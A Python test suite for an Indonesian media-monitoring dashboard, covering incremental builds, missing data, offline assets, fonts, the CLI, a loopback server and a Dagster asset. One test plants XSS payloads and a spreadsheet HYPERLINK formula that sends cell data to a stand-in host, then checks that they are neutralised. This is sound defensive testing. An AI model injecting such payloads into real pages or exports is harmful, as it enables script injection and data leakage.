"""Building the dashboard: only changed pages are written, a page without its mart is left out, no
page asks another host for anything, hostile text stays text, the command line and the server,
and the Dagster asset with its metadata."""

from __future__ import annotations

import re
import threading
import urllib.request
from dataclasses import replace
from pathlib import Path

import dagster as dg
import duckdb
import pytest
from dashboard_serving import TODAY, make_serving, planted_mentions

from dashboard.site import build_site

PAGE_FILES = {
    "index.html", "isu.html", "isu-banjir.html", "isu-ekonomi.html", "wilayah.html", "akun.html", "asn.html",
    "siaran-pers.html", "hoaks.html", "rapor.html",
}  # fmt: skip


def test_a_second_build_of_the_same_data_writes_no_page(tmp_path: Path) -> None:
    """Catches a fingerprint that changes on every build (a timestamp in the data), which would
    write every page each time."""
    serving = make_serving(tmp_path / "serving" / "citra.duckdb")
    first = build_site(serving, tmp_path / "dashboard", None, TODAY)
    stamps = {
        p: p.stat().st_mtime_ns for p in first.folder.rglob("*") if p.is_file() and p.name != ".fingerprints.json"
    }
    second = build_site(serving, tmp_path / "dashboard", None, TODAY)
    assert set(first.written) == PAGE_FILES and second.written == []
    assert set(second.skipped) == PAGE_FILES
    assert {p: p.stat().st_mtime_ns for p in stamps} == stamps


def test_new_mentions_of_one_issue_rewrite_only_the_pages_that_show_them(tmp_path: Path) -> None:
    """Catches a fingerprint over the whole site (everything rewritten) or over too little (a page
    left stale)."""
    mentions = planted_mentions()
    serving = make_serving(tmp_path / "serving" / "citra.duckdb", mentions)
    build_site(serving, tmp_path / "dashboard", None, TODAY)
    # a late negative mention of September's economy: the 12-month trends change, October's pages do not
    september = next(m for m in mentions if m.issue == "ekonomi" and m.published_at.month == 9 and m.region_code)
    extra = replace(september, mention_id="m-new", sentiment="negative", url="https://berita.example/baru")
    serving.unlink()
    make_serving(serving, [*mentions, extra])
    again = build_site(serving, tmp_path / "dashboard", None, TODAY)
    assert set(again.written) == {"index.html", "isu-ekonomi.html", "wilayah.html"}
    assert set(again.skipped) == {
        "isu.html", "isu-banjir.html", "akun.html", "asn.html", "siaran-pers.html", "hoaks.html", "rapor.html",
    }  # fmt: skip


def test_a_daily_build_with_mentions_after_the_month_shown_rewrites_only_the_ringkasan(tmp_path: Path) -> None:
    """Catches something on every page that changes with each day's data (how recent the data
    is, a build time): every daily build would then write the whole site."""
    mentions = planted_mentions()
    serving = make_serving(tmp_path / "serving" / "citra.duckdb", mentions)
    build_site(serving, tmp_path / "dashboard", None, TODAY)
    november = [
        replace(m, mention_id=f"{m.mention_id}-nov", published_at=m.published_at.replace(month=11), url=m.url + "-nov")
        for m in mentions
        if m.published_at.month == 10
    ]
    serving.unlink()
    make_serving(serving, [*mentions, *november])
    again = build_site(serving, tmp_path / "dashboard", None, TODAY)
    assert again.written == ["index.html"]
    newest = max(m.published_at for m in november).day
    assert f"Data <i>mention</i> sampai {newest} November 2025." in (again.folder / "index.html").read_text(
        encoding="utf-8"
    )


def test_a_page_whose_mart_is_missing_is_left_out_of_the_site_and_its_navigation(tmp_path: Path) -> None:
    """Catches a missing mart failing the whole site, and a page left behind (and linked) after
    its mart disappeared."""
    serving = make_serving(tmp_path / "serving" / "citra.duckdb")
    build_site(serving, tmp_path / "dashboard", None, TODAY)
    serving.unlink()
    make_serving(serving, without=("mart_amplification_monthly",))
    result = build_site(serving, tmp_path / "dashboard", None, TODAY)
    assert result.left_out == ["asn"]
    assert not (result.folder / "asn.html").exists()
    assert "csv/asn-instansi-bulan-ini.csv" in result.removed
    assert 'href="asn.html"' not in (result.folder / "index.html").read_text(encoding="utf-8")


NEW_PAGE_MARTS = {
    "siaran-pers.html": ("mart_agenda_monthly", "mart_release_pickup", "fct_release_pickups"),
    "hoaks.html": ("mart_hoax", "mart_hoax_daily", "fct_hoax_mentions"),
    "rapor.html": ("mart_humas_scorecard",),
}


@pytest.mark.parametrize("how", ["missing", "empty"])
def test_the_agenda_hoax_and_scorecard_pages_say_no_data_yet_while_their_marts_are_missing_or_empty(
    tmp_path: Path, how: str
) -> None:
    """Catches a missing or empty mart failing the site, leaving an empty chart or table behind, or
    a page that silently disappears from the navigation instead of saying there is no data yet."""
    serving = make_serving(tmp_path / "serving" / "citra.duckdb")
    build_site(serving, tmp_path / "dashboard", None, TODAY)
    marts = [t for tables in NEW_PAGE_MARTS.values() for t in tables]
    serving.unlink()
    make_serving(serving, without=marts if how == "missing" else ())
    if how == "empty":
        with duckdb.connect(str(serving)) as con:
            for table in marts:
                con.execute(f"delete from marts.{table}")
    result = build_site(serving, tmp_path / "dashboard", None, TODAY)
    assert result.left_out == []
    assert set(NEW_PAGE_MARTS) <= set(result.written)
    for name in NEW_PAGE_MARTS:
        text = (result.folder / name).read_text(encoding="utf-8")
        assert 'id="belum-ada-data"' in text and "Belum ada" in text, name
        assert 'class="chart"' not in text and "<table" not in text, name
        assert f'href="{name}"' in (result.folder / "index.html").read_text(encoding="utf-8")
    assert not list((result.folder / "csv").glob("rapor-*.csv"))  # the old month's tables are removed


def test_no_page_loads_anything_from_another_host(tmp_path: Path) -> None:
    """Catches a CDN script, a web font or a stylesheet from elsewhere: the dashboard must work
    offline and leak nothing about who reads it."""
    result = build_site(make_serving(tmp_path / "serving" / "citra.duckdb"), tmp_path / "dashboard", None, TODAY)
    for page in result.folder.glob("*.html"):
        text = page.read_text(encoding="utf-8")
        loads = re.findall(r'<(?:script|link|img|iframe|source)[^>]*?(?:src|href)="([^"]+)"', text)
        assert loads and all(not re.match(r"(?i)([a-z]+:)?//", url) for url in loads if url != "data:"), page.name
    css = (result.folder / "assets" / "site.css").read_text(encoding="utf-8")
    assert "//" not in re.sub(r"/\*.*?\*/", "", css, flags=re.S)
    assert (result.folder / "assets" / "plotly.min.js").stat().st_size > 1_000_000


def test_hostile_text_from_an_export_stays_text_on_every_page_and_in_the_csv(tmp_path: Path) -> None:
    """Catches autoescaping switched off, chart JSON that can close its <script> element, a
    vendor's javascript: link made clickable, and a headline that runs as a formula in Excel."""
    mentions = planted_mentions()
    hostile = replace(
        next(m for m in mentions if m.issue == "banjir" and m.published_at.month == 10 and m.region_code is None),
        mention_id="m-hostile",
        title="<img src=x onerror=alert(1)>",
        url="javascript:alert(2)",
        outlet="</script><script>alert(3)</script>",
        reach=10**9,
    )
    serving = make_serving(tmp_path / "serving" / "citra.duckdb", [*mentions, hostile])
    result = build_site(serving, tmp_path / "dashboard", None, TODAY)
    for page in result.folder.glob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "<img src=x" not in text and "<script>alert(3)" not in text and 'href="javascript:' not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in (result.folder / "isu-banjir.html").read_text(encoding="utf-8")
    formula = replace(
        hostile, mention_id="m-formula", title='=HYPERLINK("http://x.example/?"&A1,"klik")', reach=10**9 + 1
    )
    serving.unlink()
    make_serving(serving, [*mentions, formula])
    build_site(serving, tmp_path / "dashboard", None, TODAY)
    csv_text = (result.folder / "csv" / "isu-banjir-judul-teratas.csv").read_text(encoding="utf-8-sig")
    assert "\"'=HYPERLINK(" in csv_text and '\n"=HYPERLINK' not in csv_text


def test_the_shipped_font_covers_indonesian_text_and_keeps_its_licence(tmp_path: Path) -> None:
    """Catches a font subset that misses a character the pages write (the minus sign, a dash,
    curly quotes) or that dropped the copyright and licence the DejaVu licence requires."""
    from fontTools.ttLib import TTFont

    result = build_site(make_serving(tmp_path / "serving" / "citra.duckdb"), tmp_path / "dashboard", None, TODAY)
    fonts = result.folder / "assets" / "fonts"
    text = "Porsi negatif −3,9 poin persen · 1 – 18 Oktober “Sekolah Rakyat” café ÉÀ ±"
    for name in ("citra-sans.woff", "citra-sans-bold.woff"):
        font = TTFont(fonts / name)
        assert {ord(c) for c in text} - set(font.getBestCmap()) == set(), name
        assert "Bitstream" in font["name"].getDebugName(0) and font["name"].getDebugName(1) == "DejaVu Sans"
    assert "Bitstream Vera" in (fonts / "LICENSE_DEJAVU").read_text(encoding="utf-8")


def test_citra_dashboard_build_prints_the_folder_it_wrote_and_names_the_known_regions(
    citra_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from orchestration.cli import main

    make_serving(citra_home / "serving" / "citra.duckdb")
    assert main(["dashboard", "build", "--region", "6303"]) == 0
    assert capsys.readouterr().out.splitlines()[0] == str(citra_home / "dashboard" / "region-6303")
    assert main(["dashboard", "build", "--region", "9999"]) == 1
    error = capsys.readouterr().err
    assert "'9999'" in error and "6303 (Kabupaten Banjar)" in error and "6371 (Kota Banjarmasin)" in error


def test_citra_dashboard_build_before_any_publication_says_what_to_run(
    citra_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from orchestration.cli import main

    assert main(["dashboard", "build"]) == 1
    assert "run `citra build` first" in capsys.readouterr().err


def test_the_server_listens_on_the_loopback_address_with_the_security_headers(tmp_path: Path) -> None:
    """Catches a server open to the network, and a page allowed to load from other hosts."""
    from dashboard.serve import make_server

    result = build_site(make_serving(tmp_path / "serving" / "citra.duckdb"), tmp_path / "dashboard", None, TODAY)
    server = make_server(result.folder, 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        host, port = server.server_address[:2]
        assert host == "127.0.0.1"
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/index.html", timeout=10) as response:
            assert response.status == 200
            assert response.headers["Content-Security-Policy"].startswith("default-src 'self'")
            assert "Ringkasan" in response.read().decode("utf-8")
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.slow
def test_the_dagster_asset_writes_the_sites_and_reports_pages_written_and_unchanged(tmp_path: Path) -> None:
    """Catches an asset that rewrites everything on every build, or that ignores the regions setting."""
    from orchestration.defs.dashboard.assets import dashboard_asset
    from orchestration.defs.dashboard.resources import DashboardSettings
    from orchestration.resources import CitraHome

    make_serving(tmp_path / "serving" / "citra.duckdb")
    resources = {
        "citra": CitraHome(home=str(tmp_path), warehouse_path=str(tmp_path / "warehouse.duckdb")),
        "dashboard": DashboardSettings(regions="6371"),
    }
    runs = []
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("CITRA_TODAY", TODAY.isoformat())
        for _ in range(2):
            result = dg.materialize([dashboard_asset()], resources=resources)
            [event] = result.get_asset_materialization_events()
            runs.append(event.materialization.metadata)
    assert runs[0]["pages_written"].value == 2 * len(PAGE_FILES) and runs[0]["regions"].value == 1
    assert runs[1]["pages_written"].value == 0 and runs[1]["pages_unchanged"].value == 2 * len(PAGE_FILES)
    assert runs[0]["path"].value == str(tmp_path / "dashboard" / "site" / "index.html")
    assert (tmp_path / "dashboard" / "region-6371" / "index.html").exists()


def test_the_regions_setting_refuses_a_code_that_is_no_kabupaten_or_kota() -> None:
    from orchestration.defs.dashboard.resources import DashboardSettings

    assert DashboardSettings(regions="all").codes(["6303", "6371"]) == ["6303", "6371"]
    assert DashboardSettings(regions=" 6371 ").codes(["6303", "6371"]) == ["6371"]
    with pytest.raises(ValueError, match="6399"):
        DashboardSettings(regions="6303,6399").codes(["6303", "6371"])
